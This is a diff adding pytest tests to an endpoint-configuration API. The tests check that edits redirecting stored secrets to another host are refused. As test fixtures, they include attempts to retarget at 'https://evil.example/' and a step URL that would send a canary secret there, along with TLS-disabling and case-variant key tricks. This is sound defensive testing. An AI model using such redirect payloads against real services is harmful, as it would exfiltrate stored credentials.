@@ -237,3 +237,51 @@ def test_a_schema_is_kept_and_a_wrong_one_refused() -> None:
     answer = _call(Role.EDITOR, "PATCH", "/shop", {"json_schema": {"type": 5}})
     assert answer.status_code == 400
     assert "json_schema" in str(answer.json())
+
+
+JOURNEY = {
+    "title": "Trip",
+    "kind": "journey",
+    "target": "https://example.org",
+    "options": {
+        "secrets": {"word": CANARY},
+        "steps": [{"name": "in", "path": "/", "body": "{word}", "method": "POST"}],
+    },
+}
+LOGIN = {**SPEC, "options": {"auth": f"me:{CANARY}"}}
+STEP = {"name": "out", "url": "https://evil.example/{word}"}
+
+
+@pytest.mark.parametrize(
+    ("spec", "change", "name"),
+    [
+        (LOGIN, {"options": {"TARGET": "https://evil.example/"}}, "target"),
+        (LOGIN, {"options": {"URL": "https://evil.example/"}}, "target"),
+        (LOGIN, {"options": {"Url": "https://a.org/", "url": "/"}}, "url"),
+        (LOGIN, {"target": "http://example.org/"}, "target"),
+        (LOGIN, {"options": {"verify_tls": False}}, "verify_tls"),
+        (JOURNEY, {"options": {"Steps": [STEP]}}, "steps"),
+        (JOURNEY, {"options": {"clean_up": [STEP]}}, "clean_up"),
+    ],
+)
+def test_stored_secrets_go_nowhere_else(
+    spec: dict[str, Any], change: dict[str, Any], name: str
+) -> None:
+    """A60"""
+    made = _call(Role.EDITOR, "POST", "", spec).json()
+    before = Endpoint.objects.values().get()
+
+    answer = _call(Role.EDITOR, "PATCH", f"/{made['id']}", change)
+
+    assert answer.status_code == 400
+    assert name in [each["name"] for each in answer.json()["errors"]]
+    assert Endpoint.objects.values().get() == before
+
+
+def test_another_path_of_the_same_server_takes_the_secrets_along() -> None:
+    """A60"""
+    _call(Role.EDITOR, "POST", "", LOGIN)
+    change = {"target": "https://example.org/else", "options": {"METHOD": "POST"}}
+
+    assert _call(Role.EDITOR, "PATCH", "/shop", change).status_code == 200
+    assert store.spec_of(Endpoint.objects.get())["auth"] == f"me:{CANARY}"
